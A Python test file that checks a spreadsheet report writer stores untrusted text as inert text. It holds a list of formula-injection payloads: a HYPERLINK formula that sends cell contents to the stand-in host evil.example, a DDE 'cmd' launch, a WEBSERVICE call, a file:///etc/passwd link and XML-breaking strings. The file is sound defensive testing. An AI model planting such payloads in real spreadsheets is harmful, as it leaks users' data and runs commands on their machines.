"""Text that came in other people's books never becomes a formula, a link or a number, and never breaks the package."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openxml_audit import OpenXmlValidator

from kam_xl.exchange.report import write_report
from kam_xl.exchange.report.page import title
from kam_xl.exchange.report.sheets import SHEETS
from kam_xl.exchange.team_view import TeamView
from tests.support.libreoffice import LibreOffice
from tests.support.team_views import columns, team_view, with_text

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "{=1+1}",
    '=WEBSERVICE("http://evil.example")',
    "http://evil.example",
    "internal:'Files'!A1",
    "file:///etc/passwd",
    "0012",
    "nul\x00 and \x1b[31m and \ud800 and _x0041_",
    "]]></t><f>1+1</f>&amp;",
    "x" * 40_000,
    "line\n" * 400,
    "'quoted",
    "TRUE",
)
FORMULA_SIGNS = tuple("=+-@\t\n")


def hostile(text: str) -> TeamView:
    """Return the example with one text in every text column, in the codes and in what names groups and roles."""
    view = with_text(team_view(), text)
    tables = {}
    for name, rows in view.tables.items():
        keys = [one.key for one in columns(name)]
        codes = [i for i, one in enumerate(columns(name)) if one.kind == "code" and one.key not in ("hold", "status")]
        ids = keys.index("account_id") if "account_id" in keys else None
        tables[name] = [
            tuple(
                f"{text}{n}" if i == ids else text if i in codes else value for i, value in enumerate(row)
            )
            for n, row in enumerate(rows)
        ]  # fmt: skip
    return replace(view, tables=tables)


def sheets_of(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name).decode() for name in package.namelist()}


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_is_a_text_in_every_cell(text: str) -> None:
    data = write_report(hostile(text))
    found = sheets_of(data)
    for name, xml in found.items():
        if name.startswith("xl/worksheets/sheet"):
            assert all(re.match(r"SUM\(|SUMPRODUCT\(", one) for one in re.findall(r"<f>(.*?)</f>", xml))
            assert all(kind == "s" for kind in re.findall(r'<c [^>]*t="(\w+)"', xml) if kind != "str")
        assert "TargetMode" not in xml
        assert "evil.example" not in xml or name in ("xl/sharedStrings.xml", *charts(found), *tables(found))


def charts(found: dict[str, str]) -> list[str]:
    """Charts keep a copy of the names that they draw, as text."""
    return [name for name in found if name.startswith("xl/charts/")]


def tables(found: dict[str, str]) -> list[str]:
    """Tables name their columns, some by a group of questions or a role."""
    return [name for name in found if name.startswith("xl/tables/")]


def test_a_text_that_begins_like_a_formula_stays_one_when_it_is_edited() -> None:
    text = '=HYPERLINK("http://evil.example","click")'
    book = load_workbook(io.BytesIO(write_report(hostile(text))))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK"):
                    head = any(cell.coordinate in sheet[one.ref][0][0].coordinate for one in sheet.tables.values())
                    assert cell.data_type != "f"
                    assert cell.quotePrefix or head or cell.fill.fgColor.rgb == "FF1F4E79"
                    seen += 1
    assert seen > 500


@pytest.mark.parametrize("text", [HOSTILE[i] for i in (0, 11, 12, 13)], ids=["link", "signs", "xml", "long"])
def test_a_package_with_hostile_text_is_sound(text: str, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(write_report(hostile(text)))
    assert not OpenXmlValidator().validate(path).errors


@pytest.mark.parametrize("text", [HOSTILE[0], HOSTILE[1], HOSTILE[10]], ids=["link", "command", "number"])
def test_after_recalculation_a_hostile_text_is_still_a_text(
    text: str, libreoffice: LibreOffice, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(write_report(hostile(text)))
    book = libreoffice.recalculate(path)
    texts = [cell for sheet in book.values() for cell in sheet.values() if cell.value == text]
    assert len(texts) > 500
    assert not any(cell.formula for cell in texts)
    formulas = [cell.formula for sheet in book.values() for cell in sheet.values() if cell.formula]
    assert all(re.match(r"=SUM(PRODUCT)?\(", one) for one in formulas)
    assert not [cell for sheet in book.values() for cell in sheet.values() if cell.error]


def test_two_groups_of_one_name_are_two_columns() -> None:
    view = team_view()
    keys = [one.key for one in columns("dossier")]
    place = keys.index("group_name")
    rows = [(*row[:place], "Same\nname", *row[place + 1 :]) for row in view.tables["dossier"]]
    book = load_workbook(io.BytesIO(write_report(replace(view, tables={**view.tables, "dossier": rows}))))
    (table,) = book[title("dossier", "en")].tables.values()
    heads = [one.name for one in table.tableColumns]
    assert heads[3:6] == ["Same name", "Same name 2", "Same name 3"]
    assert len(set(heads)) == len(heads)


def test_every_text_column_of_the_team_is_shown_somewhere() -> None:
    shown = {one.key for sheet in SHEETS for one in sheet.columns}
    assert {"manager", "account", "source", "what", "do", "reason", "sender", "evidence", "old", "new"} <= shown
